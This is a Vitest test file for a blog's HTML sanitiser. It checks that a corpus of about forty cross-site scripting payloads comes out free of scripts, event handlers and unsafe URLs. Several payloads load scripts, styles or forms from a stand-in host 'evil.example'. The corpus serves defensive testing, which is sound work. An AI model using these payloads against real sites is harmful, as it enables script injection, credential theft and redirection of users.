// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { cleanHtml, excerptOf, readingMinutes, wordsOf } from './clean-html.ts';

/** Ways that HTML has been made to run script; what is left of each must hold none. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/a.png" onload="alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="/media/../api/subscriptions/unsubscribe">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0" target="_top">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name="phone"><button formaction="javascript:alert(1)">x</button></form>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "https://evil.example/x.css";*{background:url(//evil.example)}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>',
  '<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>',
  '<template><img src=x onerror=alert(1)></template>',
  '<p id="root" name="location" class="dialog" data-x="1">clobber</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><p>x</p>',
  '"><img src=x onerror=alert(1)>',
  '<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>',
];

describe('security line 14: blog HTML is sanitised when written', () => {
  test.each(CORPUS)('%s', (attack) => {
    const page = document.createElement('div');
    page.innerHTML = cleanHtml(attack);
    const forbidden =
      'script,style,iframe,object,embed,svg,math,form,input,link,base,meta,template,video,details';
    expect(page.querySelector(forbidden)).toBeNull();
    for (const element of page.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(['href', 'rel', 'src', 'alt', 'width', 'height', 'start']).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:|sms:|\/(?!\/)|#)/);
        if (name === 'src') expect(value).toMatch(/^\/media\/(?!.*\.\.)/);
      }
    }
  });

  test('cleaning what is clean changes nothing', () => {
    for (const attack of CORPUS) expect(cleanHtml(cleanHtml(attack))).toBe(cleanHtml(attack));
    const honest =
      '<h2>Halls</h2><p>Ask for <strong>diesel</strong> &amp; chairs: <a href="/signup">plans</a></p><ul><li>One</li></ul>';
    expect(cleanHtml(honest)).toBe(honest);
  });
});

test('words, excerpt and reading time come from the text alone', () => {
  expect(wordsOf('<h2>Halls</h2><p>Fish &amp; chips<br>&lt;b&gt;</p>')).toBe('Halls Fish & chips <b>');
  const long = 'word '.repeat(900).trim();
  expect(readingMinutes(long)).toBe(5);
  expect(readingMinutes('')).toBe(1);
  expect(excerptOf(long)).toMatch(/word…$/);
  expect(excerptOf(long).length).toBeLessThanOrEqual(181);
});
